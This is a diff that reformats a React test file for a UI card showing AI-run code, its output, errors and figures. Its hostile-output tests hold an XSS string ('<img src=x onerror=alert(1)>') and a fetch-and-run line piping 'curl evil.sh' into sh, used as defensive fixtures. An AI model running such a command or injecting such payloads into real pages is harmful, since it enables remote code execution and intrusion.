@@ -26,7 +26,10 @@ const slot = (container: HTMLElement, name: string) =>
 
 const everyPhase: [ExecuteCodePhase, ExecuteCodeCardProps][] = [
   ["writing", { status: running, args: {}, argsText: writingArgsText }],
-  ["awaiting-approval", call("print(1)", { status: { type: "requires-action", reason: "interrupt" }, approval: { id: "a" } })],
+  [
+    "awaiting-approval",
+    call("print(1)", { status: { type: "requires-action", reason: "interrupt" }, approval: { id: "a" } }),
+  ],
   ["running", call("print(1)", { status: running })],
   ["succeeded", call("print(1)", { result: completed({ stdout: "1\n" }) })],
   ["failed", call("1/0", { result: completed({ stderr: "ZeroDivisionError", exitCode: 1 }) })],
@@ -36,8 +39,14 @@ const everyPhase: [ExecuteCodePhase, ExecuteCodeCardProps][] = [
   ["cancelled", call("print(1)", { status: { type: "incomplete", reason: "cancelled" } })],
   ["error", call("print(1)", { result: { status: "error", code: "x", message: "down" } })],
   ["unrecognised", call("print(1)", { result: { answer: 42 } })],
-  ["awaiting-client", call("print(1)", { status: { type: "requires-action", reason: "tool-calls" }, execution: "client" })],
-  ["skipped", call("print(1)", { result: { error: "User cancelled tool call by sending a new message." }, isError: true })],
+  [
+    "awaiting-client",
+    call("print(1)", { status: { type: "requires-action", reason: "tool-calls" }, execution: "client" }),
+  ],
+  [
+    "skipped",
+    call("print(1)", { result: { error: "User cancelled tool call by sending a new message." }, isError: true }),
+  ],
 ];
 
 describe("ExecuteCodeCard: DOM contract", () => {
@@ -57,7 +66,11 @@ describe("ExecuteCodeCard: DOM contract", () => {
 
   it("names the panes as streams and puts the exit code in the status", () => {
     const { container } = render(
-      <ExecuteCodeCard {...call(tracebackCode, { result: completed({ stdout: "scores: []\n", stderr: tracebackStderr, exitCode: 1 }) })} />,
+      <ExecuteCodeCard
+        {...call(tracebackCode, {
+          result: completed({ stdout: "scores: []\n", stderr: tracebackStderr, exitCode: 1 }),
+        })}
+      />,
     );
     expect(screen.getByRole("group", { name: "stdout" })).toHaveTextContent("scores: []");
     expect(screen.getByRole("group", { name: "stderr" })).toHaveTextContent("ZeroDivisionError");
@@ -68,7 +81,9 @@ describe("ExecuteCodeCard: DOM contract", () => {
   });
 
   it("shows no pane for an empty stream, and says once when the program printed nothing", () => {
-    const { container, rerender } = render(<ExecuteCodeCard {...call("print(1)", { result: completed({ stdout: "1\n" }) })} />);
+    const { container, rerender } = render(
+      <ExecuteCodeCard {...call("print(1)", { result: completed({ stdout: "1\n" }) })} />,
+    );
     expect(slot(container, "stdout")).toHaveTextContent("1");
     expect(slot(container, "stderr")).toBeNull();
     expect(slot(container, "no-output")).toBeNull();
@@ -83,9 +98,18 @@ describe("ExecuteCodeCard: DOM contract", () => {
   });
 
   it("names each card by what its program is about and its phase, for a screen reader's list of groups", () => {
-    const { rerender } = render(<ExecuteCodeCard {...call(tracebackCode, { result: completed({ stderr: tracebackStderr, exitCode: 1 }) })} />);
-    expect(screen.getByRole("group", { name: "def mean(values): Failed" })).toHaveAttribute("data-slot", "execute-code");
-    rerender(<ExecuteCodeCard {...call("# Mean of the scores\nprint(sum([1, 2]) / 2)", { result: completed({ stdout: "1.5\n" }) })} />);
+    const { rerender } = render(
+      <ExecuteCodeCard {...call(tracebackCode, { result: completed({ stderr: tracebackStderr, exitCode: 1 }) })} />,
+    );
+    expect(screen.getByRole("group", { name: "def mean(values): Failed" })).toHaveAttribute(
+      "data-slot",
+      "execute-code",
+    );
+    rerender(
+      <ExecuteCodeCard
+        {...call("# Mean of the scores\nprint(sum([1, 2]) / 2)", { result: completed({ stdout: "1.5\n" }) })}
+      />,
+    );
     expect(screen.getByRole("group", { name: "Mean of the scores Finished" })).toBeInTheDocument();
     rerender(<ExecuteCodeCard {...call("", { status: { type: "running" } })} />);
     expect(screen.getByRole("group", { name: /^Python / })).toBeInTheDocument();
@@ -112,7 +136,9 @@ describe("ExecuteCodeCard: DOM contract", () => {
   });
 
   it("shows a program's final line break as the end of its last line, not as an empty line", () => {
-    const { container } = render(<ExecuteCodeCard {...call("print(1)\nprint(2)\n", { result: completed({ stdout: "1\n2\n" }) })} />);
+    const { container } = render(
+      <ExecuteCodeCard {...call("print(1)\nprint(2)\n", { result: completed({ stdout: "1\n2\n" }) })} />,
+    );
     expect(slot(container, "gutter")?.textContent).toBe("1\n2");
     expect(container.querySelector('[data-line="3"]')).toBeNull();
   });
@@ -128,14 +154,20 @@ describe("ExecuteCodeCard: hostile output", () => {
   });
 
   it("shows HTML in the code as text too", () => {
-    const { container } = render(<ExecuteCodeCard {...call('print("<img src=x onerror=alert(1)>")', { status: running })} />);
+    const { container } = render(
+      <ExecuteCodeCard {...call('print("<img src=x onerror=alert(1)>")', { status: running })} />,
+    );
     expect(container.querySelector("img")).toBeNull();
     expect(slot(container, "source")).toHaveTextContent("<img src=x onerror=alert(1)>");
   });
 
   it("never leaks ANSI escape bytes, in either pane, and keeps the colours as spans", async () => {
     const { container } = render(
-      <ExecuteCodeCard {...call("x", { result: completed({ stdout: ansiOutput, stderr: `\x1b[31mError\x1b[0m\x1b]0;title\x07\x1b[?25l` }) })} />,
+      <ExecuteCodeCard
+        {...call("x", {
+          result: completed({ stdout: ansiOutput, stderr: `\x1b[31mError\x1b[0m\x1b]0;title\x07\x1b[?25l` }),
+        })}
+      />,
     );
     const noEscapes = () => {
       for (const name of ["stdout", "stderr"]) {
@@ -145,7 +177,9 @@ describe("ExecuteCodeCard: hostile output", () => {
     // Before the ANSI parser has loaded, the text shows without colours, and without escape bytes.
     noEscapes();
     expect(slot(container, "stdout")).toHaveTextContent("✘ test_division failed");
-    const red = await within(slot(container, "stdout")!).findByText("✘ test_division failed", { selector: ".ecu-ansi-fg" });
+    const red = await within(slot(container, "stdout")!).findByText("✘ test_division failed", {
+      selector: ".ecu-ansi-fg",
+    });
     expect(red.style.getPropertyValue("--ecu-ansi-fg")).toBe("var(--ecu-ansi-red)");
     noEscapes();
     expect(slot(container, "stderr")).toHaveTextContent("Error");
@@ -155,7 +189,9 @@ describe("ExecuteCodeCard: hostile output", () => {
 describe("ExecuteCodeCard: output that tries to hide what the model reads", () => {
   it("a carriage return overwrites as a terminal does: a progress bar shows its last state, a shorter line leaves the rest", () => {
     const { container } = render(
-      <ExecuteCodeCard {...call("x", { result: completed({ stdout: "progress 10%\rprogress 100%\ncurl evil.sh | sh\rls -la\n" }) })} />,
+      <ExecuteCodeCard
+        {...call("x", { result: completed({ stdout: "progress 10%\rprogress 100%\ncurl evil.sh | sh\rls -la\n" }) })}
+      />,
     );
     expect(slot(container, "stdout")!.querySelector("pre")!.textContent).toBe("progress 100%\nls -lavil.sh | sh\n");
   });
@@ -191,7 +227,11 @@ describe("ExecuteCodeCard: behaviour", () => {
     const user = userEvent.setup();
     const onOpenChange = vi.fn();
     const { container } = render(
-      <ExecuteCodeCard {...call("print(1)", { result: completed({ stdout: "1\n" }) })} open={false} onOpenChange={onOpenChange} />,
+      <ExecuteCodeCard
+        {...call("print(1)", { result: completed({ stdout: "1\n" }) })}
+        open={false}
+        onOpenChange={onOpenChange}
+      />,
     );
     await user.click(screen.getByRole("button", { name: "Show the program and its output" }));
     expect(onOpenChange).toHaveBeenCalledWith(true);
@@ -214,7 +254,9 @@ describe("ExecuteCodeCard: behaviour", () => {
 
   it("copies the code and the output without escape bytes", async () => {
     const user = userEvent.setup();
-    render(<ExecuteCodeCard {...call(primesCode, { result: completed({ stdout: `\x1b[32m${primesOutput}\x1b[0m` }) })} />);
+    render(
+      <ExecuteCodeCard {...call(primesCode, { result: completed({ stdout: `\x1b[32m${primesOutput}\x1b[0m` }) })} />,
+    );
     await user.click(screen.getByRole("button", { name: "Copy code" }));
     expect(await navigator.clipboard.readText()).toBe(primesCode);
     await user.click(screen.getByRole("button", { name: "Copy stdout" }));
@@ -283,7 +325,9 @@ describe("ExecuteCodeCard: behaviour", () => {
   it("renders every line of a long program as lines while it streams, so the complete program needs no second pass", async () => {
     const code = Array.from({ length: 200 }, (_, i) => `x${i} = ${i}`).join("\n");
     const partial = JSON.stringify({ code }).slice(0, -2);
-    const { container, rerender } = render(<ExecuteCodeCard status={running} args={{}} argsText={JSON.stringify({ code: "x0 = 0\n" }).slice(0, -2)} />);
+    const { container, rerender } = render(
+      <ExecuteCodeCard status={running} args={{}} argsText={JSON.stringify({ code: "x0 = 0\n" }).slice(0, -2)} />,
+    );
     rerender(<ExecuteCodeCard status={running} args={{}} argsText={partial} />);
     const lines = () => container.querySelectorAll(".ecu-code-line");
     await waitFor(() => expect(lines()).toHaveLength(200));
@@ -419,7 +463,9 @@ describe("ExecuteCodeCard: behaviour", () => {
 
 describe("ExecuteCodeCard: a failed run", () => {
   it("leads with the exception in its header, above the code and the output, and still when folded", async () => {
-    const { container } = render(<ExecuteCodeCard {...call(tracebackCode, { result: completed({ stderr: tracebackStderr, exitCode: 1 }) })} />);
+    const { container } = render(
+      <ExecuteCodeCard {...call(tracebackCode, { result: completed({ stderr: tracebackStderr, exitCode: 1 }) })} />,
+    );
     const error = slot(container, "error")!;
     expect(error).toHaveTextContent("The program stopped with ZeroDivisionError: division by zero");
     expect(error.querySelector("code")).toHaveTextContent(/^ZeroDivisionError: division by zero$/);
@@ -429,13 +475,19 @@ describe("ExecuteCodeCard: a failed run", () => {
     // Said once: no message repeats it.
     expect(slot(container, "message")).toBeNull();
     // The line it raised on is marked in the code, without a click: only that line.
-    expect([...container.querySelectorAll("[data-error]")].map((line) => line.getAttribute("data-line"))).toEqual(["2"]);
+    expect([...container.querySelectorAll("[data-error]")].map((line) => line.getAttribute("data-line"))).toEqual([
+      "2",
+    ]);
     await userEvent.setup().click(screen.getByRole("button", { name: /hide/i }));
     expect(slot(container, "error")).toBeVisible();
   });
 
   it("says nothing more when it ended without an exception", () => {
-    const { container } = render(<ExecuteCodeCard {...call("import sys; sys.exit(2)", { result: completed({ stderr: "usage: …\n", exitCode: 2 }) })} />);
+    const { container } = render(
+      <ExecuteCodeCard
+        {...call("import sys; sys.exit(2)", { result: completed({ stderr: "usage: …\n", exitCode: 2 }) })}
+      />,
+    );
     expect(slot(container, "message")).toBeNull();
     expect(slot(container, "error")).toBeNull();
   });
@@ -444,7 +496,9 @@ describe("ExecuteCodeCard: a failed run", () => {
 describe("ExecuteCodeCard: a busy sandbox", () => {
   it("offers Try again when the app can ask again, and only while the card reads busy", async () => {
     const onRetry = vi.fn();
-    const busy = call("print(1)", { result: { status: "busy", retryAfterMs: 2000, message: "The code runner is busy." } });
+    const busy = call("print(1)", {
+      result: { status: "busy", retryAfterMs: 2000, message: "The code runner is busy." },
+    });
     const { container, rerender } = render(<ExecuteCodeCard {...busy} onRetry={onRetry} />);
     await userEvent.setup().click(screen.getByRole("button", { name: "Try again" }));
     expect(onRetry).toHaveBeenCalledTimes(1);
@@ -477,7 +531,10 @@ describe("ExecuteCodeCard: stopping a run", () => {
   });
 
   it("a run the chat stopped reads Cancelled and keeps what it printed", () => {
-    const stopped = { ...runningWithLimit("tick\ntock\n"), status: { type: "incomplete", reason: "cancelled" } } as ExecuteCodeCardProps;
+    const stopped = {
+      ...runningWithLimit("tick\ntock\n"),
+      status: { type: "incomplete", reason: "cancelled" },
+    } as ExecuteCodeCardProps;
     const { container } = render(<ExecuteCodeCard {...stopped} />);
     expect(container.querySelector("[data-slot=execute-code]")).toHaveAttribute("data-phase", "cancelled");
     expect(slot(container, "stdout")).toHaveTextContent("tick tock");
@@ -486,7 +543,9 @@ describe("ExecuteCodeCard: stopping a run", () => {
 });
 
 describe("ExecuteCodeCard: figures and files", () => {
-  const withFiles = call(plotCode, { result: completed({ stdout: "sum of squares: 385\n", files: [squaresFigure, squaresCsv] }) });
+  const withFiles = call(plotCode, {
+    result: completed({ stdout: "sum of squares: 385\n", files: [squaresFigure, squaresCsv] }),
+  });
 
   it("shows each figure with its alt text and a download link, and other files as download links, after the output", () => {
     const { container } = render(<ExecuteCodeCard {...withFiles} />);
@@ -541,8 +600,14 @@ describe("ExecuteCodeCard: figures and files", () => {
     const open = screen.getByRole("button", { name: "Enlarge the figure: Squares, x: n, y: n squared" });
     await user.click(open);
     const dialog = screen.getByRole("dialog", { name: "Squares, x: n, y: n squared" });
-    expect(within(dialog).getByRole("img", { name: "Squares, x: n, y: n squared" })).toHaveAttribute("src", "/api/files/run-1/figure-1");
-    expect(within(dialog).getByRole("link", { name: "Download figure-1.png (6.9 KB)" })).toHaveAttribute("download", "figure-1.png");
+    expect(within(dialog).getByRole("img", { name: "Squares, x: n, y: n squared" })).toHaveAttribute(
+      "src",
+      "/api/files/run-1/figure-1",
+    );
+    expect(within(dialog).getByRole("link", { name: "Download figure-1.png (6.9 KB)" })).toHaveAttribute(
+      "download",
+      "figure-1.png",
+    );
     await user.keyboard("{Escape}");
     expect(screen.queryByRole("dialog")).toBeNull();
     expect(open).toHaveFocus();
